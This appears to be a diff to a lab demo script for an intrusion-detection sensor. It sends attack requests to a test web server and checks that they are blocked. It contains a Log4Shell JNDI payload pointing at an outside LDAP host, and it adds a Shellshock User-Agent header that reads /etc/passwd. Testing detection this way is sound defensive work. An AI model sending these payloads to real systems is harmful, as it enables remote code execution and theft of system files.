@@ -70,6 +70,9 @@ echo "keep-alive session: hello, attack, after-the-attack (one line per request)
 "$VIGIL" lab exec client env HTTP_CLIENT_PAUSE=0.3 python3 "$SUPPORT/http_client.py" 10.77.0.2 8080 45100 2 \
     hello '${jndi:ldap://198.51.100.7/Exploit}' after-the-attack || true
 "$VIGIL" lab exec client curl -sS -o /dev/null -w "a new connection afterwards: HTTP %{http_code}\n" http://10.77.0.2:8080/
+echo "Shellshock: its rule's literal is in the kernel's automaton, so the request is dropped at TC:"
+"$VIGIL" lab exec client curl -sS -o /dev/null -m 3 -w "HTTP %{http_code}\n" -H "User-Agent: () { :; }; /bin/cat /etc/passwd" \
+    http://10.77.0.2:8080/cgi-bin/status || echo "no response (dropped before the server)"
 sleep 1
 kill -TERM "$SENSOR_PID"; wait "$SENSOR_PID" || true
 SENSOR_PID=
@@ -88,6 +91,10 @@ PY
 step "what rsyslogd received (RFC 5424, CEF bodies)"
 sleep 0.5
 cat "$DEMO/syslog.log" || true
+
+step "what the web server received (the Shellshock request is not there)"
+grep -c "" "$DEMO/server.log" | xargs echo "chunks received:"
+grep -q "() {" "$DEMO/server.log" && echo "the server saw the Shellshock request!" || echo "no Shellshock request reached the server"
 
 step "vigil audit query --action blocked --src 10.0.0.0/8 --since 1h"
 "$VIGIL" audit query --db "$DEMO/audit.db" --action blocked --src 10.0.0.0/8 --since 1h
